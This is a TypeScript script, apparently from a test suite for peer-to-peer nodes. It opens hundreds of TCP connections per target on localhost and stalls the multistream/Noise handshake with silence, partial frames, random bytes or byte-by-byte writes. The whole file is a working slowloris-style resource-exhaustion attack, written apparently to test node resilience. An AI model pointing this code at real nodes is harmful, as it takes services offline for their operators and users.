/**
 * Opens TCP connections by the thousand and goes no further in securing them:
 * it says nothing, says it byte by byte, stops half-way, or says rubbish.
 */
import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import { attackArgs } from '../support/attack-args.ts'
import { frame, join, utf8 } from '../support/bytes.ts'
import { report } from '../support/report.ts'
import type { Socket } from 'node:net'

/** Not the address of honest nodes, so that limits for each address do not mix them up. */
const LOCAL_ADDRESS = '127.0.0.2'

const HELD_PER_TARGET = 500
const OPENED_PER_TICK = 10
const TICK_MS = 20

const multistream = frame(utf8('/multistream/1.0.0\n'))
const noise = frame(utf8('/noise\n'))

const kinds: Array<(socket: Socket) => void> = [
  () => {},
  (socket) => socket.write(multistream),
  (socket) => socket.write(join(multistream, noise)),
  // the length and a part of the first message of Noise
  (socket) => socket.write(join(multistream, noise, Uint8Array.of(0, 32), randomBytes(7))),
  (socket) => socket.write(join(multistream, noise, Uint8Array.of(0, 32), randomBytes(32))),
  (socket) => {
    let at = 0
    const timer = setInterval(() => socket.write(multistream.subarray(at % 20, (at++ % 20) + 1)), 200)
    socket.once('close', () => clearInterval(timer))
  }
]

const { targets } = attackArgs()
let opened = 0

for (const target of targets) {
  const port = Number(/\/tcp\/(\d+)/.exec(target.addr)?.[1])
  const held = new Set<Socket>()

  setInterval(() => {
    for (let i = 0; i < OPENED_PER_TICK && held.size < HELD_PER_TARGET; i++) {
      open(port, held)
    }
  }, TICK_MS)
}

setInterval(() => report({ event: 'opened', count: opened }), 100)

function open(port: number, held: Set<Socket>): void {
  const kind = kinds[opened++ % kinds.length]
  const socket = connect({ port, host: '127.0.0.1', localAddress: LOCAL_ADDRESS }, () => kind?.(socket))

  held.add(socket)
  socket.on('error', () => {})
  socket.resume()
  socket.once('close', () => held.delete(socket))
}
